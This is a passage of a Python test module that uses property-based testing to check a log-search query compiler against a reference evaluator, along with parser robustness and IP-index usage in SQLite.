                dataset=draw(st.sampled_from(["linux.auth", "nginx.access", "22"])),
                original=" ".join(draw(st.lists(st.sampled_from(WORDS), max_size=3))),
                offset=i,
                fields=fields,
            )
        )
    return events


query_values = st.sampled_from(WORDS) | st.sampled_from(NUMERIC_STRINGS)
query_leaves = st.one_of(
    st.builds(Term, st.sampled_from(ALL_FIELDS), query_values),
    st.builds(Wildcard, st.sampled_from(ALL_FIELDS), st.sampled_from(PATTERNS)),
    st.builds(Exists, st.sampled_from(ALL_FIELDS)),
    st.builds(
        Range,
        st.sampled_from(ALL_FIELDS),
        st.none() | st.sampled_from(BOUNDS),
        st.none() | st.sampled_from(BOUNDS),
        st.booleans(),
        st.booleans(),
    ),
    st.builds(Text, st.sampled_from(WORDS), st.just(False)),
    st.builds(Text, st.sampled_from(PATTERNS), st.just(True)),
    st.builds(Term, st.just(schema.TIMESTAMP), st.sampled_from(TIMES)),
    st.builds(
        Range,
        st.just(schema.TIMESTAMP),
        st.none() | st.sampled_from(TIMES),
        st.none() | st.sampled_from(TIMES),
        st.booleans(),
        st.booleans(),
    ),
)
random_queries = st.recursive(
    query_leaves,
    lambda inner: st.one_of(
        st.builds(Not, inner),
        st.builds(And, st.lists(inner, min_size=2, max_size=3).map(tuple)),
        st.builds(Or, st.lists(inner, min_size=2, max_size=3).map(tuple)),
    ),
    max_leaves=5,
)


def check_against_reference(engine: sa.Engine, events: Sequence[Event], query: Node) -> None:
    rows = [event_to_row(e, 1) for e in events]
    with engine.begin() as conn:
        conn.execute(t.events.delete())
        if rows:
            conn.execute(t.events.insert(), rows)
    expected = {
        row["id"] for row, e in zip(rows, events, strict=True) if evaluate(query, row, e.fields)
    }
    where = compile_where(query, engine.dialect.name, now=NOW)
    with engine.connect() as conn:
        actual = set(conn.execute(sa.select(t.events.c.id).where(where)).scalars())
    assert actual == expected, f"query: {query}"


@settings(
    max_examples=250,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(events=random_events(), query=random_queries)
def test_sql_agrees_with_the_reference_evaluator(
    scratch_engine: sa.Engine, events: list[Event], query: Node
) -> None:
    check_against_reference(scratch_engine, events, query)


PIECES = [
    "a", "x:", "(", ")", " ", "*", "-", "OR", '"', "p>", "1", "[1 TO 2]", "@timestamp>",
    "now-1h", "tags:", "\x00", "é", "?",
]  # fmt: skip


@settings(
    max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(text=st.text(max_size=30) | st.lists(st.sampled_from(PIECES), max_size=10).map("".join))
def test_every_parsable_query_runs(scratch_engine: sa.Engine, text: str) -> None:
    try:
        node = parse(text)
    except QuerySyntaxError:
        return
    where = compile_where(node, scratch_engine.dialect.name, now=NOW)
    with scratch_engine.connect() as conn:
        conn.execute(sa.select(sa.func.count()).select_from(t.events).where(where)).scalar()


def test_ip_terms_use_the_ip_index(tmp_path: Path) -> None:
    """A search by IP must not scan the table: it is the commonest lookup in an incident."""
    from garrison.storage.sql.engine import make_engine, upgrade

    engine = make_engine(f"sqlite:///{tmp_path / 'plan.db'}")
    upgrade(engine)
    where = compile_where(parse('source.ip:"2001:DB8::1"'), "sqlite")
    query = sa.select(t.events.c.id).select_from(t.events).where(where)
    sql = str(query.compile(engine, compile_kwargs={"literal_binds": True}))
    with engine.connect() as conn:
        plan = " ".join(str(row[-1]) for row in conn.exec_driver_sql("EXPLAIN QUERY PLAN " + sql))
    engine.dispose()
    assert "ix_events_source_ip_ts" in plan, plan
